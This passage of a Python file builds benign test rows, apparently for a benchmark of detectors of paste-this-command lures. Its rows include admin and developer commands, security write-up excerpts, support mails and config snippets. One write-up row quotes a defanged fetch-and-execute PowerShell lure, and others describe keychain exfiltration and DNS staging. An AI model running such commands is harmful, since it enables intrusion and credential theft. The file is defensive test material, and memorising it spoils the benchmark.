        TERM,
        "kubectl get pods -A --field-selector=status.phase!=Running\nkubectl describe pod -n payments api-7c9d8b5f4-x2k9q",
    ),
    (
        "https://wiki.corp.example/it/db/postgres",
        TERM,
        "psql -h db01.corp.example -U postgres -c \"SELECT pid, state, query_start, left(query, 80) FROM pg_stat_activity WHERE state <> 'idle';\"",
    ),
    (
        "https://wiki.corp.example/it/windows/printers",
        TERM,
        "Get-Printer | Where-Object PrinterStatus -ne 'Normal'\nRestart-Service -Name Spooler",
    ),
    ("https://wiki.corp.example/it/windows/time", RUN, "cmd /c w32tm /resync /force"),
    (
        "https://wiki.corp.example/it/windows/wsus",
        TERM,
        "Get-Service -Name wuauserv, bits, cryptsvc | Restart-Service -Force -PassThru",
    ),
    (
        "https://wiki.corp.example/it/ad/replication",
        TERM,
        "repadmin /replsummary\nrepadmin /showrepl dc02 /csv > C:\\Temp\\repl.csv",
    ),
    (
        "https://wiki.corp.example/it/ad/dns-health",
        TERM,
        "dcdiag /test:dns /v /s:dc02 /f:C:\\Temp\\dcdiag-dns.txt",
    ),
    (
        "https://wiki.corp.example/it/ad/stale-accounts",
        TERM,
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object LastLogonDate -lt (Get-Date).AddDays(-90) | Select-Object SamAccountName, LastLogonDate | Export-Csv C:\\Temp\\stale.csv -NoTypeInformation",
    ),
    (
        "https://wiki.corp.example/it/linux/failed-units",
        TERM,
        "sudo systemctl list-units --type=service --state=failed\nsudo systemctl reset-failed",
    ),
    (
        "https://wiki.corp.example/it/linux/lvm",
        TERM,
        "sudo lvextend -r -L +20G /dev/vg0/var\ndf -h /var",
    ),
    ("https://wiki.corp.example/it/linux/firewall", TERM, "sudo nft list ruleset | less"),
    (
        "https://wiki.corp.example/it/k8s/restart",
        TERM,
        "kubectl rollout restart deployment/api -n payments && kubectl rollout status deployment/api -n payments --timeout=5m",
    ),
    (
        "https://wiki.corp.example/it/macos/updates",
        TERM,
        "sudo softwareupdate --list --all --include-config-data",
    ),
    (
        "https://wiki.corp.example/it/macos/logs",
        TERM,
        "log show --predicate 'process == \"softwareupdated\"' --last 1h --style compact",
    ),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.com/questions/12941083",
        "find . -name node_modules -type d -prune -exec rm -rf '{}' +",
    ),
    ("https://stackoverflow.com/questions/11618898", "lsof -i :3000"),
    (
        "https://stackoverflow.com/questions/14219092",
        "awk -F, '{ sum += $3 } END { print sum }' sales.csv",
    ),
    (
        "https://stackoverflow.com/questions/7065186",
        "echo 'SGVsbG8sIHdvcmxkIQ==' | base64 --decode",
    ),
    (
        "https://stackoverflow.com/questions/5573012",
        "Get-ChildItem -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) } | Remove-Item",
    ),
    ("https://stackoverflow.com/questions/9238953", "npm ls --depth=0 -g"),
    ("https://stackoverflow.com/questions/2720014", "pip freeze > requirements.txt"),
    (
        "https://stackoverflow.com/questions/34124987",
        'python -c "import sys, json; print(json.dumps(json.load(sys.stdin), indent=2))" < response.json',
    ),
    (
        "https://stackoverflow.com/questions/20326471",
        "rsync -avz --progress --exclude '.git' ./site/ deploy@web01.example.org:/var/www/site/",
    ),
    ("https://stackoverflow.com/questions/16956810", "grep -rn --include='*.py' 'TODO' src/"),
    (
        "https://stackoverflow.com/questions/27281405",
        "ssh -L 5432:localhost:5432 admin@db.example.org -N",
    ),
    (
        "https://stackoverflow.com/questions/31463419",
        "Invoke-WebRequest -Uri https://www.python.org/ftp/python/3.13.1/python-3.13.1-amd64.exe -OutFile python-installer.exe",
    ),
    (
        "https://stackoverflow.com/questions/4259996",
        "git log --author='Dana' --since='2 weeks ago' --pretty=format:'%h %ad %s' --date=short",
    ),
    (
        "https://stackoverflow.com/questions/31935776",
        "git worktree add ../hotfix-4471 -b hotfix/4471 origin/main",
    ),
    (
        "https://stackoverflow.com/questions/18592173",
        "jq -r '.items[] | select(.status==\"failed\") | .id' jobs.json | sort -u",
    ),
    (
        "https://stackoverflow.com/questions/12894407",
        "find . -name '*.orig' -o -name '*.rej' | xargs rm -v",
    ),
    (
        "https://stackoverflow.com/questions/984204",
        "tar -czf backup-$(date +%F).tar.gz --exclude=node_modules --exclude=.git ./project",
    ),
    (
        "https://stackoverflow.com/questions/21297853",
        "openssl x509 -in server.crt -noout -dates -subject -issuer",
    ),
    ("https://stackoverflow.com/questions/6127328", "git clean -fdx --dry-run"),
    (
        "https://stackoverflow.com/questions/5767062",
        "sed -i.bak 's/staging.example.org/prod.example.org/g' config/*.yml",
    ),
    (
        "https://stackoverflow.com/questions/32163955",
        "kubectl get secret db-creds -n payments -o jsonpath='{.data.password}' | base64 -d",
    ),
    (
        "https://stackoverflow.com/questions/2937407",
        "Get-Content .\\app.log -Tail 50 -Wait | Select-String -Pattern 'ERROR'",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, command in [
    (
        "https://stackoverflow.com/questions/3387427",
        "document.querySelectorAll('img:not([alt])').forEach(img => img.style.outline = '3px solid red')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "console.table([...document.querySelectorAll('h1,h2,h3')].map(h => ({tag: h.tagName, text: h.textContent.trim()})))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#getEventListeners-function",
        "getEventListeners(document.querySelector('#checkout-button'))",
    ),
    ("https://stackoverflow.com/questions/1181575", "$$('table.results tbody tr').length"),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/NavigatorUAData/getHighEntropyValues",
        "navigator.userAgentData.getHighEntropyValues(['platformVersion', 'architecture']).then(console.log)",
    ),
    (
        "https://stackoverflow.com/questions/11715646",
        "window.scrollTo({ top: document.body.scrollHeight, behavior: 'smooth' })",
    ),
    (
        "https://stackoverflow.com/questions/6604192",
        "[...document.links].filter(a => a.hostname !== location.hostname).map(a => a.href)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "navigator.clipboard.writeText(location.href).then(() => console.log('copied'))",
    ),
    (
        "https://stackoverflow.com/questions/2010892",
        "sessionStorage.clear(); localStorage.removeItem('draft-4471')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#queryObjects-function",
        "queryObjects(Promise)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/fonts",
        "document.fonts.ready.then(fs => console.log([...fs].map(f => f.family)))",
    ),
    (
        "https://stackoverflow.com/questions/4651468",
        "Array.from(document.styleSheets).map(s => s.href).filter(Boolean)",
    ),
]:
    ok(CONSOLE, CON, page, command)

# --- Security write-ups quoting lures (defanged or described) -------------------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.threat-notes.example/2026/fake-turnstile",
        'The fake Turnstile page copies a command to the clipboard and tells the visitor to press Win+R, then Ctrl+V and Enter. The copied text starts `powershell -w h -c "irm hxxps://stage[.]example/c|iex"` and ends with a comment claiming the check passed.',
    ),
    (
        "https://research.secteam.example/filefix-explorer",
        "FileFix variants ask the victim to open File Explorer and paste a 'file path' into the address bar. The path is padded with spaces after a `#`, so only the fake path is visible while the real command runs first.",
    ),
    (
        "https://blog.threat-notes.example/2026/crashfix",
        "In the 'CrashFix' wave, a malicious extension crashes the browser on purpose and then shows a repair prompt. Victims are told to run a command that pipes `finger` output into `cmd`; defenders should block outbound TCP/79.",
    ),
    (
        "https://intel.socdesk.example/nslookup-staging",
        "Recent ClickFix chains use DNS for staging: the pasted command runs nslookup against an attacker-run resolver and executes the TXT or Name field of the answer. Hunt for nslookup.exe spawned by explorer.exe with a non-corporate server argument.",
    ),
    (
        "https://research.secteam.example/macos-terminal-lures",
        "macOS campaigns (AMOS, Odyssey) show a 'Terminal' step: a base64 string is echoed, decoded and piped into bash. The decoded script asks for the login password with a fake dialog and validates it with dscl before exfiltrating the keychain.",
    ),
    (
        "https://blog.threat-notes.example/2026/device-code",
        "Device-code phishing never touches the victim's machine: the attacker starts the flow, sends the user code with a pretext, and waits for the victim to enter it at the real sign-in page. Block the device-code flow by Conditional Access where it is not needed.",
    ),
    (
        "https://intel.socdesk.example/runmru",
        "To find what a user pasted into the Run box, check HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU. Entries ending with `\\1` are the commands in the order of the MRUList value.",
    ),
    (
        "https://research.secteam.example/syncappv",
        "SyncAppvPublishingServer.vbs accepts a string that ends up inside a PowerShell command line, which is why it appears in ClickFix chains as a way to run PowerShell without typing powershell.exe. Most fleets can block it with WDAC.",
    ),
    (
        "https://blog.threat-notes.example/2026/consentfix",
        "ConsentFix pages ask the user to sign in and then paste the localhost URL the browser failed to open. That URL carries an OAuth authorization code, which the attacker redeems for tokens.",
    ),
    (
        "https://intel.socdesk.example/callback-phishing",
        "Callback phishing mails contain no link and no attachment, only an invoice and a phone number. The 'refund agent' then talks the caller into installing remote-access software.",
    ),
    (
        "https://research.secteam.example/stego-loaders",
        "Some 2025 loaders hide the next stage in the pixel data of a PNG; the pasted one-liner downloads the image and rebuilds the script from the blue channel before running it.",
    ),
    (
        "https://blog.threat-notes.example/2026/fake-meet",
        "The fake Google Meet page claims the microphone is blocked and shows a 'Fix it' button that copies a PowerShell command; the same kit serves a curl | bash line to macOS visitors.",
    ),
    (
        "https://research.secteam.example/conhost-headless",
        "A cluster of fake CAPTCHA pages now wraps the pasted command in `conhost.exe --headless`, which keeps the console window from appearing. EDR rules keyed on explorer.exe -> powershell.exe miss the intermediate conhost.exe parent.",
    ),
    (
        "https://blog.threat-notes.example/2026/fake-github-alerts",
        "Maintainers received GitHub notifications about a 'security vulnerability' issue linking to a look-alike domain. The page asked them to press Win+R and paste a verification command; nothing on github.com itself was compromised.",
    ),
    (
        "https://intel.socdesk.example/msiexec-package-url",
        "msiexec /package with an https URL installs a remote MSI without a prior download step; seen in ClickFix kits since mid-2025. Alert on msiexec.exe with an http(s) argument whose parent is explorer.exe.",
    ),
    (
        "https://research.secteam.example/tech-support-scam-kits",
        "Browser-locker kits go full screen, play an audio warning and show a phone number in a 555-style template; the number rotates per campaign. None of them run code: the harm starts when the victim calls.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers, in the 13 languages -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.corp.example/inbox/1",
        "Hi Dana,\nthe new VPN profile is rolled out tonight. If you can't connect tomorrow morning, call the service desk at +1 555 010 4420 or open a ticket.\nThanks, IT",
    ),
    (
        "https://mail.corp.example/inbox/2",
        "Hallo Herr Weber,\nIhr Termin zur Heizungswartung ist am 12.01. zwischen 8 und 12 Uhr. Bei Fragen erreichen Sie uns unter 030 555 0188.\nMit freundlichen Grüßen",
    ),
    (
        "https://mail.corp.example/inbox/3",
        "Bonjour,\nvotre colis sera livré jeudi. Pour changer le créneau, appelez notre service client au 01 55 50 12 34 du lundi au vendredi.\nCordialement",
    ),
    (
        "https://mail.corp.example/inbox/4",
        "Hola Marta,\nte confirmo la reserva para 6 personas el sábado a las 21:00. Si necesitas cambiarla, llámanos al 915 550 147.\nUn saludo",
    ),
    (
        "https://mail.corp.example/inbox/5",
        "Gentile cliente,\nla sua richiesta di assistenza n. 44817 è stata chiusa. Per riaprirla può chiamare il numero 02 5550 1930.\nCordiali saluti",
    ),
    (
        "https://mail.corp.example/inbox/6",
        "Olá Pedro,\na reunião de condomínio foi adiada para dia 15. Qualquer dúvida, liga-me: 912 555 014.\nAbraço",
    ),
    (
        "https://mail.corp.example/inbox/7",
        "Beste klant,\nuw afspraak bij de tandarts staat op dinsdag om 10:30. Verhinderd? Bel ons op 010 555 0142.\nMet vriendelijke groet",
    ),
    (
        "https://mail.corp.example/inbox/8",
        "Dzień dobry,\nprzypominamy o przeglądzie samochodu w piątek o 9:00. W razie pytań prosimy dzwonić: 22 555 01 77.\nPozdrawiamy",
    ),
    (
        "https://mail.corp.example/inbox/9",
        "Merhaba Ayşe Hanım,\nsiparişiniz kargoya verildi. Teslimatla ilgili sorularınız için 0212 555 01 44 numaralı hattı arayabilirsiniz.\nİyi günler",
    ),
    (
        "https://mail.corp.example/inbox/10",
        "Здравствуйте, Иван!\nНапоминаем, что собрание жильцов состоится в среду в 19:00. Вопросы можно задать по телефону +7 495 555-01-23.\nС уважением",
    ),
    (
        "https://mail.corp.example/inbox/11",
        "田中様\n来週の打ち合わせは水曜日14時からに変更になりました。ご不明な点は 03-5550-1122 までお電話ください。\nよろしくお願いいたします。",
    ),
    (
        "https://mail.corp.example/inbox/12",
        "王先生您好，\n您预约的体检时间为下周二上午九点。如需改期，请致电 010-5550-1234。\n谢谢",
    ),
    (
        "https://mail.corp.example/inbox/13",
        "مرحباً أحمد،\nتم تأكيد موعد صيانة المكيف يوم الأحد الساعة العاشرة صباحاً. للاستفسار يرجى الاتصال على 04 555 0166.\nمع التحية",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The user should use a browser to go to https://microsoft.com/devicelogin and enter the user_code shown by the device. The device polls the token endpoint until the user completes authentication or the code expires.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "Prompt the user to enter the user code at https://github.com/login/device. The app then polls POST https://github.com/login/oauth/access_token with the device_code until the user authorizes it.",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252#section-7.3",
        "Native apps that are able to open a port on the loopback network interface without needing special permissions can use the loopback interface to receive the OAuth redirect, for example http://127.0.0.1:51004/oauth2redirect/example-provider.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "Loopback IP address: To receive the authorization code using this URL, your application must be listening on the local web server, e.g. http://127.0.0.1:port or http://[::1]:port.",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "gh auth login --web\n! First copy your one-time code: 1A2B-3C4D\nPress Enter to open github.com in your browser...",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code\nTo sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code shown in the terminal to authenticate.",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "sysdm.cpl ,3",
    "control /name Microsoft.ProgramsAndFeatures",
    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,0",
    "mmc compmgmt.msc /computer=pc-0412",
    "msra /offerra",
    "credwiz",
    "tabcal",
    "control folders",
    "control admintools",
    "wmimgmt.msc",
    "shutdown /a",
    "%windir%\\system32\\drivers\\etc",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "\\\\fileserver\\Abteilungen\\Vertrieb\\Angebote",
    "%LOCALAPPDATA%\\Microsoft\\Outlook",
    "D:\\Backups\\Laptop\\2026-11",
    "%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp",
    "\\\\nas.home.example\\media\\Filme",
    "OneDrive - Contoso\\Projekte\\Angebot_2027",
    "%USERPROFILE%\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles",
    "\\\\srv-print02\\Scans\\Buchhaltung",
    "%APPDATA%\\obs-studio\\basic\\scenes",
    "%LOCALAPPDATA%\\Temp\\Diagnostics",
    "C:\\Users\\Public\\Pictures\\Firmenfeier_2026",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets -------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/example-org/site/blob/main/.htaccess",
        "RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]",
    ),
    (
        "https://github.com/example-org/infra/blob/main/ansible/site.yml",
        "- hosts: web\n  become: true\n  tasks:\n    - name: Install nginx\n      ansible.builtin.apt:\n        name: nginx\n        state: present\n        update_cache: true",
    ),
    (
        "https://github.com/example-org/app/blob/main/Dockerfile",
        'FROM python:3.13-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]',
    ),
    (
        "https://github.com/example-org/infra/blob/main/main.tf",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "example-org-logs"\n  tags = {\n    Environment = "prod"\n  }\n}',
    ),
    (
        "https://github.com/example-org/app/blob/main/.github/workflows/release.yml",
        "- name: Install Rust\n  run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n- name: Build\n  run: cargo build --release",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.gitconfig",
        "[alias]\n    st = status -sb\n    lg = log --graph --oneline --decorate\n[pull]\n    rebase = true",
    ),
    (
        "https://github.com/example-org/app/blob/main/Makefile",
        "test:\n\tpytest -q\n\nlint:\n\truff check .\n\nrun:\n\tuvicorn app.main:app --reload",
    ),
    (
        "https://logs.internal.example/api",
        "2026-12-06T17:02:11Z WARN  http status=429 path=/v1/search client=10.2.3.4 retry_after=30\n2026-12-06T17:02:42Z INFO  http status=200 path=/v1/search client=10.2.3.4 dur=112ms",
    ),
    (
        "https://github.com/example-org/app/blob/main/settings.json",
        '{\n  "editor.formatOnSave": true,\n  "python.defaultInterpreterPath": ".venv/bin/python",\n  "files.exclude": { "**/__pycache__": true }\n}',
    ),
    (
        "https://github.com/example-org/win/blob/main/Microsoft.PowerShell_profile.ps1",
        "Set-PSReadLineOption -EditMode Emacs\nSet-PSReadLineKeyHandler -Key Tab -Function MenuComplete\n$env:PATH += ';C:\\tools\\bin'",
    ),
    (
        "https://github.com/example-org/app/blob/main/.pre-commit-config.yaml",
        "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.4\n    hooks:\n      - id: ruff\n      - id: ruff-format",
    ),
    (
        "https://github.com/example-org/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackage_update: true\npackages:\n  - fail2ban\n  - unattended-upgrades\nruncmd:\n  - systemctl enable --now fail2ban",
    ),
    (
        "https://logs.internal.example/auth",
        "Dec  6 17:11:02 web01 sshd[22817]: Failed password for invalid user admin from 203.0.113.250 port 51122 ssh2\nDec  6 17:11:05 web01 sshd[22817]: Connection closed by invalid user admin 203.0.113.250 port 51122 [preauth]",
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind11", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind11", BENIGN)


def main() -> None:
    blindkit.main("blind11", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
